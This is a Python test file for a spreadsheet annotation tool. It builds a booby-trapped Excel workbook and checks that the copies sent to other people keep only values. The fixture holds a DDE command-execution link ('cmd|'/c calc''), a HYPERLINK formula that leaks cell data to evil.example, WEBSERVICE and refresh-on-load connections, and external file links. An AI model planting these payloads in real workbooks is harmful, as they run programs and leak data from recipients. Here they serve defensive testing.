"""A copy for other people holds only values. It does not calculate, and does not refer outside of the file."""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

import openpyxl
import pytest
from tests.workbooks.traps import drawn

from setpoint.core.plant import demo_plant
from setpoint.workbook.annotate import annotate
from setpoint.workbook.row_outcome import RowOutcome

PLANT = demo_plant()
OUTCOMES = [RowOutcome("m_401", "targetSpeed", "applied", "", 100, 150)]
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
DDE = (
    f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems>'
    '<ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
)
OTHER_BOOK = (
    f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}"><externalBook r:id="rId1">'
    '<sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
)
OTHER_BOOK_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    f'Type="{OFFICE}/externalLinkPath" Target="file:///evil.xlsx" TargetMode="External"/></Relationships>'
)
CONNECTIONS = (
    f'<connections xmlns="{MAIN}"><connection id="1" name="c" type="4" refreshedVersion="6" refreshOnLoad="1">'
    '<webPr url="http://evil.example/"/></connection></connections>'
)
ADDED = {
    "xl/externalLinks/externalLink1.xml": ("externalLink", OTHER_BOOK),
    "xl/externalLinks/externalLink2.xml": ("externalLink", DDE),
    "xl/connections.xml": ("connections", CONNECTIONS),
}
LIVE_PARTS = re.compile(
    r"externalLink|connections|queryTable|vba|macro|pivot|activeX|embedding|chart|tables/|custom"
)


def draw(book: Any, sheet: Any) -> None:
    sheet.write_row(0, 0, ["Machine ID", "Target Speed", "Mode", "Link", "Call"])
    sheet.write_string(1, 0, "m:401")
    sheet.write_formula(1, 1, "=[1]Sheet1!A1+1", None, 150)
    sheet.write_url(1, 3, "http://evil.example/", string="click")
    sheet.write_formula(1, 4, '=HYPERLINK("http://evil.example/?"&A2,"more")', None, "more")
    sheet.write_array_formula(4, 4, 5, 4, "{=A1:A2}", None, 7)
    sheet.data_validation(1, 2, 9, 2, {"validate": "list", "source": "=[1]Sheet1!$A$1:$A$3"})
    sheet.conditional_format(1, 1, 9, 1, {"type": "formula", "criteria": "=[1]Sheet1!$A$1>1"})
    book.define_name("Call", "=cmd|'/c calc'!A0")
    other = book.add_worksheet("Other")
    other.write_formula(0, 0, '=WEBSERVICE("http://evil.example/")', None, "answer")
    other.write_url(1, 0, r"external:\\evil\share\file.xlsx", string="other file")
    other.add_table(3, 0, 5, 1, {"columns": [{"header": "a"}, {"header": "b", "formula": "=[1]Sheet1!$A$1"}]})
    other.merge_range(9, 3, 9, 4, "over two cells")
    chart = book.add_chart({"type": "line"})
    chart.add_series({"values": "=Targets!$B$2:$B$3"})
    other.insert_chart("H1", chart)
    book.add_vba_project(io.BytesIO(b"macro"), is_stream=True)
    book.set_custom_property("link", "x")


def live(*, has_dde: bool = True) -> bytes:
    """Makes a workbook with all of that, and with links to another file, to a server, and by DDE to a program."""
    out = io.BytesIO()
    added = {path: part for path, part in ADDED.items() if has_dde or part[1] != DDE}
    kinds = [kind for kind, _ in added.values()]
    with zipfile.ZipFile(io.BytesIO(drawn(draw))) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            part = source.read(name)
            if name == "xl/workbook.xml":
                links = "".join(
                    f'<externalReference r:id="x{place}"/>' for place in range(kinds.count("externalLink"))
                )
                links = f"<externalReferences>{links}</externalReferences>"
                part = part.replace(b"</sheets>", f"</sheets>{links}".encode())
            elif name == "xl/_rels/workbook.xml.rels":
                more = "".join(
                    f'<Relationship Id="x{place}" Type="{OFFICE}/{kind}" Target="{path.removeprefix("xl/")}"/>'
                    for place, (path, (kind, _)) in enumerate(added.items())
                )
                part = part.replace(b"</Relationships>", f"{more}</Relationships>".encode())
            elif name == "[Content_Types].xml":
                family = "application/vnd.openxmlformats-officedocument.spreadsheetml."
                more = "".join(
                    f'<Override PartName="/{path}" ContentType="{family}{kind}+xml"/>'
                    for path, (kind, _) in added.items()
                )
                part = part.replace(b"</Types>", f"{more}</Types>".encode())
            target.writestr(name, part)
        for path, (_, text) in added.items():
            target.writestr(path, text)
        target.writestr("xl/externalLinks/_rels/externalLink1.xml.rels", OTHER_BOOK_RELS)
    return out.getvalue()


def parts_of(workbook: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(workbook)) as package:
        return {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}


@pytest.mark.rule("XL-10")
def test_a_copy_for_another_person_contains_nothing_active() -> None:
    parts = parts_of(annotate(live(), PLANT, OUTCOMES, is_own=False))
    assert [name for name in parts if LIVE_PARTS.search(name)] == []
    everything = "\n".join(parts.values())
    assert "evil" not in everything
    assert "cmd|" not in everything
    for mark in (
        "<f>",
        "<f ",
        "<definedName ",
        "<dataValidation ",
        "<hyperlink",
        "<tablePart ",
        "TargetMode",
        "macro",
    ):
        assert mark not in everything, mark


@pytest.mark.rule("XL-10")
def test_a_copy_for_another_person_has_only_the_values_and_our_colours() -> None:
    book = openpyxl.load_workbook(io.BytesIO(annotate(live(), PLANT, OUTCOMES, is_own=False)))
    sheet = book["Targets"]
    assert [cell.value for cell in sheet[2]][:6] == ["m:401", 150, None, "click", "more", "applied"]
    assert book["Other"]["A1"].value == "answer"
    assert "D10:E10" in book["Other"].merged_cells
    assert [str(each.sqref) for each in sheet.conditional_formatting] == ["A2:K6"]


@pytest.mark.rule("XL-10")
def test_the_sender_gets_formulas_and_links_back_and_never_macros_or_connections() -> None:
    parts = parts_of(annotate(live(has_dde=False), PLANT, OUTCOMES))
    assert "HYPERLINK" in parts["xl/worksheets/sheet1.xml"]
    assert "xl/externalLinks/externalLink1.xml" in parts
    assert not [name for name in parts if "vba" in name or "connections" in name]


@pytest.mark.rule("XL-10")
def test_a_link_to_a_program_comes_back_to_nobody() -> None:
    for is_own in (True, False):
        parts = parts_of(annotate(live(), PLANT, OUTCOMES, is_own=is_own))
        assert "ddeLink" not in "".join(parts.values())
        assert "applied" in parts["xl/worksheets/sheet1.xml"]
